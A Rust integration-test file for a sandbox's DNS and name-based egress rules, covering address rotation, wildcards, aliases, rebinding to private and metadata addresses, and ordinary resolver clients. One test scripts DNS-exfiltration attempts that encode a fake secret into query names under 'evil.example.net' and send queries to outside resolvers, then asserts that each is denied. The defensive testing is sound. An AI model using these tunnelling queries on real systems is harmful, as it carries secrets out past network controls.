//! Egress by name: declared names are looked up and reached, whatever their addresses become, and
//! nothing else is, nor does a question carry anything out.

use std::{thread, time::Duration};

use serde_json::{Value, json};
use skillsandbox_tests::{
    manifest::Manifest,
    network::Network,
    sandbox::{Ran, Run},
    scene::Scene,
};

/// Each question on record: `verdict reason name TYPE`.
fn questions(ran: &Ran) -> Vec<String> {
    let text = |event: &Value, field: &str| event[field].as_str().unwrap_or("-").to_owned();
    ran.of_kind("dns")
        .map(|event| {
            ["verdict", "reason", "name", "record_type"]
                .map(|field| text(event, field))
                .join(" ")
        })
        .collect()
}

#[test]
fn a_name_is_reached_at_whatever_address_it_has_come_to_have() {
    const ROTATIONS: u8 = 20;
    let scene = Scene::new("rotation");
    let network = Network::own(&scene, &[]);
    network.serve(443);
    let addresses: Vec<_> = (1..=ROTATIONS)
        .map(|last| format!("192.0.2.{last}"))
        .collect();
    for address in &addresses {
        network.address(address);
    }
    network.hosts(&[("192.0.2.1", "api.example.com")]);
    let turns = scene.file("turns");
    std::fs::write(&turns, "").expect("no turn yet");
    let manifest = Manifest::default()
        .names(&[("api.example.com", 443)])
        .both(&turns);
    // The skill asks for the next address by writing down how many it has reached.
    let script = format!(
        "seen = []\n\
         while len(seen) < {ROTATIONS}:\n\
         \x20   found = find('api.example.com')\n\
         \x20   if found[-1] in seen: time.sleep(0.02); continue\n\
         \x20   assert not isinstance(reach(found[-1], 443), str), found\n\
         \x20   seen.append(found[-1])\n\
         \x20   open({turns:?}, 'w').write('x' * len(seen))\n\
         print(len(seen))\n"
    );
    let ran = thread::scope(|scope| {
        let skill = scope.spawn(|| network.python(&scene, &manifest, &script));
        for (number, address) in (0..).zip(&addresses) {
            network.hosts(&[(address, "api.example.com")]);
            while !skill.is_finished() && std::fs::metadata(&turns).expect("turns").len() <= number
            {
                thread::sleep(Duration::from_millis(5));
            }
        }
        skill.join().expect("a run")
    });
    assert_eq!(ran.output(), format!("{ROTATIONS}\n"));
    let granted: Vec<_> = ran
        .of_kind("address")
        .map(|event| event["address"].as_str().expect("an address").to_owned())
        .collect();
    assert_eq!(granted, addresses);
    let named = ran.of_kind("connect").filter(|event| event["port"] == 443);
    assert!(
        named
            .into_iter()
            .all(|event| event["name"] == "api.example.com")
    );
    assert_eq!(network.asked(), ["api.example.com"]);
}

#[test]
fn an_address_that_is_a_names_no_more_takes_no_connection_and_keeps_those_it_has() {
    let scene = Scene::new("expiry");
    let network = Network::own(&scene, &[]);
    network.serve(443);
    network.address("192.0.2.1");
    network.address("2001:db8::1");
    network.hosts(&[
        ("192.0.2.1", "api.example.com"),
        ("2001:db8::1", "six.example.com"),
    ]);
    let manifest = Manifest::default().names(&[("api.example.com", 443), ("six.example.com", 443)]);
    let script = "\
        print(reach('192.0.2.1', 443))\n\
        print(find('api.example.com'), find('six.example.com'))\n\
        kept = reach('192.0.2.1', 443)\n\
        print(isinstance(reach('2001:db8::1', 443), str) and reach('2001:db8::1', 443))\n\
        print(reach('192.0.2.1', 80))\n\
        time.sleep(33)\n\
        print(reach('192.0.2.1', 443), reach('2001:db8::1', 443))\n\
        kept.settimeout(1)\n\
        print(kept.send(b'x' * 1000))\n\
        time.sleep(0.5)\n\
        print(struct.unpack_from('B', kept.getsockopt(6, 11, 200), 4)[0] == 0)\n\
        unacked = struct.unpack_from('I', kept.getsockopt(6, 11, 200), 24)[0]\n\
        print(unacked)\n\
        find('api.example.com')\n\
        print(isinstance(reach('192.0.2.1', 443), str))\n";
    let ran = network.python(&scene, &manifest, script);
    assert_eq!(
        ran.output(),
        "PermissionError\n\
         ['192.0.2.1'] ['2001:db8::1']\n\
         ConnectionRefusedError\n\
         PermissionError\n\
         PermissionError PermissionError\n\
         1000\n\
         True\n\
         0\n\
         False\n"
    );
    let changes: Vec<_> = ran
        .of_kind("address")
        .map(|event| format!("{} {}", event["change"], event["address"]).replace('"', ""))
        .collect();
    assert_eq!(
        changes,
        [
            "granted 192.0.2.1",
            "granted 2001:db8::1",
            "expired 192.0.2.1",
            "expired 2001:db8::1",
            "granted 192.0.2.1"
        ]
    );
}

#[test]
fn a_wildcard_covers_every_depth_below_and_not_the_apex() {
    let scene = Scene::new("wildcard");
    let network = Network::own(&scene, &[]);
    network.hosts(&[(
        "192.0.2.1",
        "example.com a.example.com c.b.a.example.com badexample.com mozilla.cloudflare-dns.com \
         other.cloudflare-dns.com",
    )]);
    let manifest =
        Manifest::default().names(&[("*.example.com", 443), ("*.cloudflare-dns.com", 443)]);
    let script = "for name in ('a.example.com', 'C.B.a.Example.com', 'example.com', \
        'badexample.com', 'mozilla.cloudflare-dns.com', 'other.cloudflare-dns.com'):\n\
        \x20   print(name, find(name))\n";
    let ran = network.python(&scene, &manifest, script);
    assert_eq!(
        ran.output(),
        "a.example.com ['192.0.2.1']\n\
         C.B.a.Example.com ['192.0.2.1']\n\
         example.com none\n\
         badexample.com none\n\
         mozilla.cloudflare-dns.com none\n\
         other.cloudflare-dns.com ['192.0.2.1']\n"
    );
    assert_eq!(
        network.asked(),
        [
            "a.example.com",
            "c.b.a.example.com",
            "other.cloudflare-dns.com"
        ]
    );
}

#[test]
fn an_alias_is_followed_and_what_it_leads_to_is_not_declared_by_it() {
    let scene = Scene::new("alias");
    let network = Network::own(&scene, &[("www.example.com", "cdn.example.net")]);
    network.serve(443);
    network.address("192.0.2.7");
    network.hosts(&[("192.0.2.7", "cdn.example.net")]);
    let manifest = Manifest::default().names(&[("www.example.com", 443)]);
    let script = "\
        print(find('cdn.example.net'), find('www.example.com'))\n\
        print(isinstance(reach('192.0.2.7', 443), str))\n";
    let ran = network.python(&scene, &manifest, script);
    assert_eq!(ran.output(), "none ['192.0.2.7']\nFalse\n");
    assert_eq!(network.asked(), ["www.example.com"]);
}

/// What asks by hand: `ask(name, type, transport, server)` answers the code of the answer.
const BY_HAND: &str = "\
def ask(name, kind, transport='udp', server='192.0.2.53'):\n\
\x20   labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))\n\
\x20   query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1)\n\
\x20   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if transport == 'udp' else socket.SOCK_STREAM)\n\
\x20   s.settimeout(20)\n\
\x20   if transport == 'udp':\n\
\x20       s.sendto(query, (server, 53))\n\
\x20       answer, source = s.recvfrom(4096)\n\
\x20       assert source == (server, 53), source\n\
\x20   else:\n\
\x20       s.connect((server, 53))\n\
\x20       assert s.getpeername() == (server, 53)\n\
\x20       s.send(struct.pack('>H', len(query)) + query)\n\
\x20       answer = s.recv(4096)[2:]\n\
\x20   return answer[3] & 15\n";

#[test]
fn no_question_carries_anything_out() {
    let scene = Scene::new("leaks");
    let network = Network::own(&scene, &[]);
    network.serve(443);
    network.serve(853);
    network.address("192.0.2.1");
    network.address("192.0.2.53");
    network.hosts(&[("192.0.2.1", "api.example.com")]);
    let manifest = Manifest::default().names(&[("api.example.com", 443), ("*.example.org", 443)]);
    let secret = "5ec7e7".repeat(10);
    let script = format!(
        "{BY_HAND}\
         secret = '{secret}'\n\
         print(ask('api.example.com', 1))\n\
         print(ask(secret + '.evil.example.net', 1))\n\
         print([ask(secret[i:i + 8] + '.evil.example.net', 1) for i in (0, 8, 16)])\n\
         print(ask('api.example.com', 16), ask('api.example.com', 10))\n\
         print(ask('stolen.example.net', 1, 'udp', '8.8.8.8'))\n\
         print(ask('stolen.example.net', 1, 'tcp', '9.9.9.9'))\n\
         print(reach('192.0.2.53', 853), reach('192.0.2.53', 443))\n\
         print(ask('.'.join([secret] * 3) + '.example.org', 1))\n\
         print(sum(ask(f'n{{i}}.example.org', 1) == 5 for i in range(400)) > 50)\n"
    );
    let ran = network.python(&scene, &manifest, &script);
    assert_eq!(
        ran.output(),
        "0\n5\n[5, 5, 5]\n5 5\n5\n5\nPermissionError PermissionError\n5\nTrue\n"
    );
    let questions = questions(&ran);
    for expected in [
        format!("deny no_rule {secret}.evil.example.net A"),
        format!("deny no_rule {}.evil.example.net A", &secret[..8]),
        "deny record_type api.example.com TXT".to_owned(),
        "deny record_type api.example.com NULL".to_owned(),
        "deny no_rule stolen.example.net A".to_owned(),
        format!(
            "deny name_too_long {}.example.org A",
            [secret.as_str(); 3].join(".")
        ),
    ] {
        assert!(questions.contains(&expected), "{expected}: {questions:#?}");
    }
    let many = questions
        .iter()
        .filter(|line| line.starts_with("deny too_many_names n"));
    assert!(many.count() > 50);
    let no_rule = ["192.0.2.53 853/tcp", "192.0.2.53 443/tcp"];
    ran.denied(
        "connect",
        &no_rule.map(|target| format!("no_rule: {target}")),
    );
    let asked = network.asked();
    assert!(
        asked
            .iter()
            .all(|name| name == "api.example.com" || name.starts_with('n')),
        "{asked:?}"
    );
}

#[test]
fn an_answer_comes_under_the_address_that_was_asked_whatever_its_family() {
    let scene = Scene::new("families");
    let network = Network::own(&scene, &[]);
    network.hosts(&[("192.0.2.1", "api.example.com")]);
    let manifest = Manifest::default().names(&[("api.example.com", 443)]);
    let script = "\
        query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x03api\\x07example\\x03com\\0\\0\\x01\\0\\x01'\n\
        for server in ('192.0.2.53', '2001:db8::53', '::ffff:192.0.2.54'):\n\
        \x20   family = socket.AF_INET6 if ':' in server else socket.AF_INET\n\
        \x20   loose, bound, stream = (socket.socket(family, kind) for kind in (2, 2, 1))\n\
        \x20   for s in (loose, bound, stream): s.settimeout(20)\n\
        \x20   loose.sendto(query, (server, 53)) if server[:3] != '::f' else loose.connect((server, 53)) or loose.send(query)\n\
        \x20   answer, source = loose.recvfrom(600)\n\
        \x20   print(answer[3] & 15, source[:2])\n\
        \x20   bound.connect((server, 53)); bound.send(query)\n\
        \x20   print(bound.recvfrom(600)[1][:2], bound.getpeername()[:2])\n\
        \x20   stream.connect((server, 53)); print(stream.getpeername()[:2])\n";
    let ran = network.python(&scene, &manifest, script);
    let expected = ["192.0.2.53", "2001:db8::53", "::ffff:192.0.2.54"].map(|server| {
        let asked = format!("('{server}', 53)");
        format!("0 {asked}\n{asked} {asked}\n{asked}\n")
    });
    assert_eq!(ran.output(), expected.concat());
}

#[test]
fn a_name_does_not_lead_into_the_host_or_its_networks_unless_an_address_rule_says_so() {
    let scene = Scene::new("rebinding");
    let network = Network::own(&scene, &[]);
    network.address("10.0.0.1");
    network.serve(443);
    network.hosts(&[
        ("127.0.0.1", "loop.example.com"),
        ("169.254.169.254", "meta.example.com"),
        ("fd00:ec2::254", "six.example.com"),
        ("10.0.0.1", "inner.example.com"),
    ]);
    let denying = Manifest::default().names(&[("*.example.com", 443)]);
    let script = "for name in ('loop', 'meta', 'six', 'inner'):\n\
        \x20   print(name, find(name + '.example.com'))\n\
        for address in ('127.0.0.1', '169.254.169.254', '10.0.0.1'):\n\
        \x20   print(reach(address, 443))\n";
    let ran = network.python(&scene, &denying, script);
    assert_eq!(
        ran.output(),
        "loop none\nmeta none\nsix none\ninner none\n\
         PermissionError\nPermissionError\nPermissionError\n"
    );
    let refused = ran
        .of_kind("dns")
        .filter(|event| event["reason"] == "private_address");
    let mut refused: Vec<_> = refused
        .flat_map(|event| event["refused"].as_array().expect("a list").clone())
        .map(|address| address.as_str().expect("an address").to_owned())
        .collect();
    refused.sort();
    refused.dedup();
    assert_eq!(
        refused,
        ["10.0.0.1", "127.0.0.1", "169.254.169.254", "fd00:ec2::254"]
    );
    let granting = json!([
        {"domain": "*.example.com", "ports": [443]},
        {"cidr": "10.0.0.0/8", "ports": [22]},
    ]);
    let granting = denying.set("/permissions/network/egress", granting);
    let script = "print(find('inner.example.com'), isinstance(reach('10.0.0.1', 443), str))\n";
    let ran = network.python(&scene, &granting, script);
    assert_eq!(ran.output(), "['10.0.0.1'] False\n");
}

#[test]
fn programs_look_names_up_as_they_always_do() {
    let scene = Scene::new("clients");
    let network = Network::own(&scene, &[]);
    network.address("192.0.2.1");
    network.hosts(&[("192.0.2.1", "api.example.com")]);
    // A server of the web for one file.
    let folder = scene.folder("served");
    std::fs::write(folder.join("file"), "served\n").expect("a file to serve");
    let mut server = std::process::Command::new("python3")
        .args(["-m", "http.server", "8000", "--directory"])
        .arg(&folder)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("a server");
    let musl = musl_program(&scene);
    let manifest = Manifest::default()
        .names(&[("api.example.com", 8000)])
        .exec("/usr/bin")
        .exec(&musl);
    let script = "\
        for try in 1 2 3 4 5 6 7 8 9 10; do curl -sf http://api.example.com:8000/file && break; sleep 1; done\n\
        getent hosts api.example.com | tr -s ' '\n\
        getent ahosts api.example.com | head -1 | tr -s ' '\n\
        dig +short api.example.com @192.0.2.99\n\
        dig +short +tcp api.example.com @192.0.2.98\n\
        dig evil.example.net | grep -o 'status: [A-Z]*'\n\
        python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://api.example.com:8000/file\").read())'\n\
        python3 -c '\n\
import asyncio\n\
async def main():\n\
\x20   loop = asyncio.get_running_loop()\n\
\x20   found = await asyncio.gather(*(loop.getaddrinfo(\"api.example.com\", 80) for _ in range(50)))\n\
\x20   print({a[4][0] for one in found for a in one})\n\
asyncio.run(main())'\n\
        \"$0\" api.example.com\n";
    let words = ["sh", "-c", script].map(std::ffi::OsString::from);
    let run = Run::new(&scene, &manifest, words.into_iter().chain([musl.into()]));
    let ran = network.run(run).end();
    let _gone = server.kill();
    let _reaped = server.wait();
    assert_eq!(
        ran.with_code(0).output(),
        "served\n\
         192.0.2.1 api.example.com\n\
         192.0.2.1 STREAM api.example.com\n\
         192.0.2.1\n\
         192.0.2.1\n\
         status: REFUSED\n\
         b'served\\n'\n\
         {'192.0.2.1'}\n\
         192.0.2.1\n"
    );
}

/// A program that is linked statically with another C library, which asks from one socket that is
/// connected nowhere.
fn musl_program(scene: &Scene) -> std::path::PathBuf {
    let (source, program) = (scene.path("lookup.c"), scene.path("lookup"));
    let text = "#include <netdb.h>\n#include <stdio.h>\n#include <arpa/inet.h>\n\
        int main(int n, char **words) {\n\
        struct addrinfo wanted = {.ai_family = AF_INET}, *found;\n\
        if (getaddrinfo(words[1], 0, &wanted, &found)) return 1;\n\
        puts(inet_ntoa(((struct sockaddr_in *)found->ai_addr)->sin_addr)); }\n";
    std::fs::write(&source, text).expect("a source");
    let mut compiler = std::process::Command::new("musl-gcc");
    let compiler = compiler.args(["-static", "-o"]).args([&program, &source]);
    let status = compiler.status().expect("musl-gcc, of Debian's musl-tools");
    assert!(status.success());
    program
}

#[test]
fn names_of_this_hosts_own_file_are_answered_from_it() {
    let scene = Scene::new("hosts");
    let hosts = std::fs::read_to_string("/etc/hosts").expect("/etc/hosts");
    let names = hosts.lines().filter(|line| line.starts_with("127.0.0.1"));
    let mut names = names.flat_map(|line| line.split_whitespace().skip(1));
    let name = names
        .find(|name| *name != "localhost")
        .unwrap_or("localhost");
    let script = format!(
        "python3 -c 'import socket; print(socket.gethostbyname(\"{name}\"))'; cat /etc/resolv.conf"
    );
    let with = Run::shell(&scene, &Manifest::default().names(&[(name, 443)]), &script);
    let with = with.end().with_code(0).output();
    assert_eq!(with, "127.0.0.1\nnameserver 127.0.0.1\n");
    let localhost = Manifest::default().set(
        "/permissions/network/egress",
        json!([{"domain": "localhost", "ports": [9], "protocol": "udp"}]),
    );
    let script = "python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(s.sendto(b\"x\", (\"localhost\", 9)))'";
    let ran = Run::shell(&scene, &localhost, script).end().with_code(0);
    assert_eq!(ran.output(), "1\n");
}
